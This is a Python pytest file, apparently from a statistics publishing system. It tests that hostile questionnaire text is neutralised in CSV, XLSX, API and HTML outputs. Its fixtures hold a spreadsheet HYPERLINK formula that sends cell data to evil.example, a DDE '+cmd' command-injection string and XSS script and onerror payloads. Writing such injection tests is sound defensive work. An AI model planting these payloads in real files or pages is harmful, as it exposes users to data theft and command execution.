"""Hostile text carried from a questionnaire to every output: no CSV or XLSX cell a spreadsheet
would run as a formula, no HTML page that runs a script.

The payloads enter the way a focal point's text does: a value's note in the questionnaire, the
file's name, the source's name in the catalogue, a release's description; then they are read back
from exports, the JSON/CSV API, SDMX-CSV, the bulk downloads (CSV, XLSX), the check report (HTML),
the downloads pages, the landing page and error answers."""
from __future__ import annotations

import csv
import gzip
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from ilms.check import check_file
from ilms.check.html import render
from ilms.collect.load import load_file
from ilms.publish import bulk, ilostat, tidy
from ilms.publish.tabular import FORMULA_STARTS
from ilms.store import releases, sources
from ilms.store.read import Selection, observations
from ilms.web import create_app

from ..collect.hostile.corpus import questionnaire_template, t05_value_cell
from ..collect.questionnaire.helpers import find_cells

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"' + SCRIPT + '")'
PLUS = "+cmd|' /C calc'!A0"
FILE_NAME = '<img src=x onerror=alert(2)>.xlsx'


def _is_formula(value) -> bool:
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return False
    try:
        float(value)              # a negative number written as text is a number, not a formula
        return False
    except ValueError:
        return True


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula_csv(text: str, where: str) -> None:
    bad = [c for c in _csv_cells(text) if _is_formula(c)]
    assert not bad, f"{where}: formula cells {bad[:3]}"


def _assert_no_formula_xlsx(path: Path) -> None:
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and not _is_formula(cell.value), f"{path.name} {ws.title}!{cell.coordinate}"


@pytest.fixture
def carried(engine, tmp_path):
    """A published database whose texts came in from a hostile questionnaire."""
    template = questionnaire_template(tmp_path)
    wb = openpyxl.load_workbook(template)
    ws = wb["T05"]
    cells = find_cells(ws, 5)
    note_cell = next(c["NOTE"] for c in cells.values() if c["VALUE"] == t05_value_cell(wb))
    ws[note_cell] = FORMULA
    ws[note_cell].data_type = "s"                 # text (as typed after an apostrophe), not a formula
    path = tmp_path / FILE_NAME
    wb.save(path)
    result = load_file(engine, path, by=PLUS)
    assert result.summary.added == 1
    with engine.begin() as conn:
        sources.upsert(conn, "BA_453", "THA", name=FORMULA, agency=PLUS)
        releases.create(conn, "R1", by="cur", description=FORMULA)
        releases.publish(conn, "R1", by="cur")
    with engine.connect() as conn:
        stored = list(observations(conn, Selection(table=5)))
    assert stored[0].comment == FORMULA           # kept verbatim in the store; made safe on the way out
    return path


def test_csv_exports_and_the_api_write_no_formula(engine, carried, tmp_path):
    with engine.connect() as conn:
        rows = list(observations(conn, Selection(table=5)))
        names = {s["code"]: s["name"] for s in sources.catalogue(conn)}
    out = tmp_path / "tidy.csv"
    tidy.write(out, 5, rows, source_names=names)
    text = out.read_text(encoding="utf-8")
    assert "'" + FORMULA in _csv_cells(text) and "'" + FORMULA in _csv_cells(text)   # note and source name, made safe
    _assert_no_formula_csv(text, "tidy CSV")
    out = tmp_path / "ilostat.csv"
    ilostat.write(out, rows, tables=[5])
    _assert_no_formula_csv(out.read_text(encoding="utf-8"), "ILOSTAT CSV")
    client = TestClient(create_app(engine))
    r = client.get("/api/v1/tables/5/data", params={"format": "csv"})
    assert r.status_code == 200
    _assert_no_formula_csv(r.text, "API CSV")
    assert "'" + FORMULA in _csv_cells(r.text)                     # the text itself is there, made safe
    for url, accept in (("/rest/data/DF_ILMS_T05/all", "application/vnd.sdmx.data+csv;version=1.0.0"),
                        ("/rest/v2/data/dataflow/ILMS/DF_ILMS_T05/1.0/*", "application/vnd.sdmx.data+csv;version=2.0.0")):
        r = client.get(url, headers={"Accept": accept})
        assert r.status_code == 200, r.text
        _assert_no_formula_csv(r.text, f"SDMX-CSV {accept}")


def test_bulk_downloads_write_no_formula(engine, carried, tmp_path):
    bulk.build(engine, "R1", root=tmp_path / "dl")
    checked = 0
    for path in sorted((tmp_path / "dl").rglob("*")):
        if path.suffix == ".xlsx":
            _assert_no_formula_xlsx(path)
            checked += 1
        elif path.name.endswith((".csv", ".csv.gz")):
            data = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
            _assert_no_formula_csv(data.decode("utf-8-sig"), path.name)
            checked += 1
        elif path.suffix == ".zip":
            with zipfile.ZipFile(path) as z:
                for name in z.namelist():
                    if name.endswith(".csv"):
                        _assert_no_formula_csv(z.read(name).decode("utf-8-sig"), f"{path.name}/{name}")
                        checked += 1
    assert checked >= 2


def test_html_pages_escape_carried_text(engine, carried):
    report = check_file(carried)
    html = render(report)
    assert FILE_NAME not in html and "&lt;img src=x onerror=alert(2)&gt;.xlsx" in html
    client = TestClient(create_app(engine))
    pages = {"/": None, "/downloads/": None, "/downloads/R1/": None, "/downloads/calendar": None,
             f"/downloads/{SCRIPT}/": 404, f"/api/v1/releases/{SCRIPT}": 404,
             "/api/v1/tables/5/data?SEX=" + SCRIPT: 400, "/rest/data/DF_ILMS_T05/" + SCRIPT: None}
    for url, status in pages.items():
        r = client.get(url, headers={"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"})
        assert r.status_code < 500 and (status is None or r.status_code == status), (url, r.status_code)
        assert SCRIPT not in r.text or not r.headers["content-type"].startswith("text/html"), url
        if r.headers["content-type"].startswith("text/html"):
            assert "<img src=x" not in r.text and 'onerror=alert' not in r.text.replace("onerror=alert(2)&gt;", ""), url
    assert "&lt;script&gt;" in client.get("/downloads/R1/").text or FORMULA not in client.get("/downloads/R1/").text


def test_a_prefilled_questionnaire_holds_stored_formula_text_as_text(engine, carried, tmp_path):
    """The note and the source name come back in a prefilled questionnaire as literal text (no
    live formula), and the questionnaire reads back with the same note."""
    from ilms.collect.questionnaire import build, read_questionnaire
    from ilms.collect.questionnaire.prefill import gather
    from ilms.collect.questionnaire.writer import save
    with engine.connect() as conn:
        catalogue = sources.catalogue(conn, "THA")
        wb, _ = build("THA", 2024, catalogue=catalogue, prefill=gather(conn, "THA", 2024))
    path = tmp_path / "prefilled.xlsx"
    save(wb, path)
    _assert_no_formula_xlsx_cells(path)
    notes = [o.comment for o in read_questionnaire(path).observations()]
    assert notes == [FORMULA]


def _assert_no_formula_xlsx_cells(path: Path) -> None:
    wb = openpyxl.load_workbook(path)
    found = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.data_type == "f"]
    assert not found, found
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == FORMULA]
    assert texts, "the texts are in the workbook, as text"
